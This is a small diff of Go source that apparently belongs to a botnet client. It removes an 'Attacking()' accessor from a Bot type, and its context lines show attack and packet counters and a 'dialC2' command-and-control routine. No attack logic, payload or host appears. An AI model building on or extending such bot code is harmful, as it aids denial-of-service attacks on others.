@@ -87,9 +87,6 @@ func (b *Bot) Stats() (attacksRun, pktsSent uint64) {
 	return b.attacksRun, sent
 }
 
-// Attacking reports whether an attack is currently running.
-func (b *Bot) Attacking() bool { return b.engine != nil && b.engine.Running() }
-
 func (b *Bot) dialC2() {
 	if b.stopped {
 		return
